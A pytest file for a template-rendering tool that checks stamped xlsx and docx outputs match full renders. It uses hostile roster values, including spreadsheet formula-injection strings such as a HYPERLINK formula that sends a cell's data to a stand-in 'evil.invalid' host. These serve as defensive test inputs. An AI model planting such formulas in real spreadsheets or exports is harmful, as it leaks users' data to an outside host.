"""Stamping rows into a prepared template gives the full render's bytes, or renders."""

import datetime as dt
import json
import unicodedata
from pathlib import Path

import pytest

from perftemplates.cli import main
from perftemplates.render import stamp as st
from perftemplates.roster import Roster, RosterOptions
from perftemplates.templates import Template, find_template, render

AS_OF = dt.date(2026, 7, 1)
CASES = Path(__file__).parent / "data" / "cases"
FORMATS = ("xlsx", "docx")


def _stamped(template_id: str, fmt: str, rows: list[dict[str, str]]) -> list[bool]:
    """Run the rows through one Stamper; assert each file equals its full render.

    A neutral row like the first is seen before, so the rows' context is prepared
    by the first of them.
    Returns, for each row, whether it was stamped (False: it fell back).
    """
    template = find_template(template_id)
    stamper = st.Stamper()
    keys = st.text_keys(template)
    if rows:
        primer = {k: f"Primer {k}" if k in keys else v for k, v in rows[0].items()}
        stamper.render(template, "blank", fmt, AS_OF, primer)
    flags = []
    for overrides in rows:
        before = stamper.stamped
        data = stamper.render(template, "blank", fmt, AS_OF, overrides)
        assert data == render(template, "blank", fmt, AS_OF, overrides), overrides
        flags.append(stamper.stamped > before)
    return flags


def _roster(case: str, template_id: str, **options) -> list[dict[str, str]]:
    template = find_template(template_id)
    roster = Roster(CASES / case, template.blueprint, RosterOptions(**options))
    return [row.overrides for row in roster.rows() if not row.problems]


# The built-in templates


@pytest.mark.parametrize("fmt", FORMATS)
def test_okr_rows_are_stamped_to_the_render_bytes(fmt):
    rows = [{"team": f"Team {n:05d}", "owner": f"Owner {n}"} for n in range(8)]

    assert _stamped("okr", fmt, rows) == [True] * 8


@pytest.mark.parametrize("fmt", FORMATS)
def test_mbo_rows_sharing_their_numbers_are_stamped(fmt):
    rows = [
        {
            "employee": f"Employee {n}",
            "role": "Analyst",
            "manager": "Mia Example",
            "base_salary": "50000",
        }
        for n in range(6)
    ]

    assert _stamped("mbo", fmt, rows) == [True] * 6


@pytest.mark.parametrize("fmt", FORMATS)
def test_mbo_rows_with_their_own_salary_are_rendered_in_full(fmt):
    # A salary feeds formulas whose stored results would change: never stamped.
    rows = [
        {"employee": f"Employee {n}", "base_salary": str(50000 + n)} for n in range(4)
    ]

    # The first row's context was seen twice; every other is new: a full render.
    assert _stamped("mbo", fmt, rows) == [True, False, False, False]


# The hostile rosters


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("case", "rows", "rendered"),
    [
        ("teams-formula-text.csv", 5, 0),
        # The decomposed (NFD) name is written composed: rendered in full.
        ("teams-unicode.csv", 6, 1),
        # The blank team's row stamps only the owner: a context seen once.
        ("teams-unsafe-names.csv", 12, 1),
        ("teams-bom.csv", 2, 0),
    ],
)
def test_hostile_team_rosters_are_stamped_to_the_render_bytes(
    fmt, case, rows, rendered
):
    overrides = _roster(case, "okr")

    flags = _stamped("okr", fmt, overrides)

    assert len(flags) == rows
    assert flags.count(False) == rendered


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_employee_rosters_give_the_render_bytes(fmt):
    overrides = _roster("employees-semicolon.csv", "mbo", decimal=",")
    overrides += _roster("employees-bad-rows.csv", "mbo")

    flags = _stamped("mbo", fmt, overrides)

    # Each salary feeds formulas: only a context seen before is stamped (the
    # primed first row, and Cleo's 72000 in both rosters).
    assert flags == [True, False, False, False, True]


NFD = unicodedata.normalize("NFD", "Équipe Müller")
# (team value, stamped in xlsx, stamped in docx)
VALUES = [
    ("Smith & Sons <Ltd>", True, True),
    ("A && B > C", True, True),
    ("Say \"hi\" & 'bye'", True, True),
    ("=1+1", True, True),
    ('=HYPERLINK("http://evil.invalid/?d="&A1,"Open")', True, True),
    ("@SUM(1,1)", True, True),
    ("فريق المبيعات", True, True),
    ("🚀 Launch Squad", True, True),
    ("]]> & <![CDATA[", True, True),
    ("{# a comment #}", True, True),
    ("Zero\u200bwidth", True, True),
    ("N " * 70 + "N", True, True),
    # Writers serialise these otherwise: whitespace, breaks, escapes, markers.
    (NFD, False, False),
    (" leading", False, False),
    ("trailing ", False, False),
    ("tab\there", False, False),
    ("line\nbreak", False, False),
    ("carriage\rreturn", False, False),
    ("_x0041_", False, False),
    ("<r>rich</r>", False, False),
    ("{{ company.name }}", False, False),
    ("marker \ue000", False, False),
    ("x" * 400, False, False),
    # A word longer than the probe's: a column's width might follow it.
    ("N" * 150, False, False),
    # Equal to another string of the workbook: XlsxWriter shares its index.
    ("Team", False, True),
    ("Company", False, True),
    ("Owner", False, True),
]


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_values_stamp_or_fall_back_as_they_must(fmt):
    rows = [{"team": value, "owner": "Ana Example"} for value, _, _ in VALUES]
    expected = [xlsx if fmt == "xlsx" else docx for _, xlsx, docx in VALUES]

    flags = _stamped("okr", fmt, rows)

    assert flags == expected
    assert flags.count(False) == (15 if fmt == "xlsx" else 12)


def test_two_keys_with_one_value_fall_back_in_a_workbook():
    rows = [{"team": "Same", "owner": "Same"}, {"team": "Alpha", "owner": "Beta"}]

    assert _stamped("okr", "xlsx", rows) == [False, True]
    assert _stamped("okr", "docx", rows) == [True, True]


def test_an_empty_value_is_rendered_in_full():
    assert _stamped("okr", "xlsx", [{"team": "", "owner": "Ana"}]) == [False]


# Keys that must never be stamped


def test_a_key_a_formula_refers_to_is_never_stamped():
    template = find_template("eos-vto")

    prepared = st.prepare(template, "blank", "xlsx", AS_OF, {}, ("unique_1",))

    assert prepared is None
    rows = [{"team": "Ops", "unique_1": f"Fast {n}"} for n in range(3)]
    assert _stamped("eos-vto", "xlsx", rows) == [False] * 3


def test_a_key_in_a_worksheet_header_is_never_stamped():
    # The company is in every sheet's header, where '&' is written '&&'.
    template = find_template("okr")

    assert st.prepare(template, "blank", "xlsx", AS_OF, {}, ("company",)) is None
    assert st.prepare(template, "blank", "docx", AS_OF, {}, ("company",)) is not None


def test_choices_numbers_and_parameters_are_not_stamp_keys():
    keys = st.text_keys(find_template("okr"))

    assert keys == {"company", "team", "owner"}


@pytest.mark.parametrize(
    "title",
    ["{% if team %}Ours{% endif %}", "{{ team | upper }}", "{{ team[:3] }}"],
)
def test_a_key_blueprint_text_tests_or_filters_is_never_stamped(title):
    okr = find_template("okr")
    blueprint = okr.blueprint.model_copy(update={"title": title})

    keys = st.text_keys(Template(okr.path, blueprint))

    assert keys == {"company", "owner"}


def test_a_key_printed_plainly_stays_a_stamp_key():
    okr = find_template("okr")
    blueprint = okr.blueprint.model_copy(update={"title": "{{ team }} OKRs"})

    assert st.text_keys(Template(okr.path, blueprint)) == {"company", "team", "owner"}


def test_a_placeholder_inside_a_tag_is_refused():
    assert st._in_text(b"<t>\xee\x80\x80x</t>", b"\xee\x80\x80x")
    assert not st._in_text(b'<a b="\xee\x80\x80x"/>', b"\xee\x80\x80x")


# Through the batch command


@pytest.mark.parametrize("fmt", FORMATS)
def test_batch_files_are_the_render_bytes(tmp_path, fmt):
    roster = tmp_path / "teams.csv"
    names = ["Alpha", "Smith & Sons <Ltd>", "Team", "Ops – Nord", "Beta", "=1+1"]
    roster.write_text(
        "Team,Owner\n" + "".join(f'"{n}",Ana Example\n' for n in names),
        encoding="utf-8",
    )
    out = tmp_path / "out"

    try:
        main(
            ["batch", "okr", "--roster", str(roster), "--out", str(out)]
            + ["--format", fmt, "--workers", "1", "--quiet", "--as-of", "2026-07-01"]
        )
    except SystemExit as exit_:
        assert exit_.code in (0, None)

    template = find_template("okr")
    entries = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["files"]
    assert [entry["status"] for entry in entries] == ["written"] * len(names)
    for entry in entries:
        overrides = {"team": names[entry["row"] - 2], "owner": "Ana Example"}
        expected = render(template, "blank", fmt, AS_OF, overrides)
        assert (out / entry["file"]).read_bytes() == expected
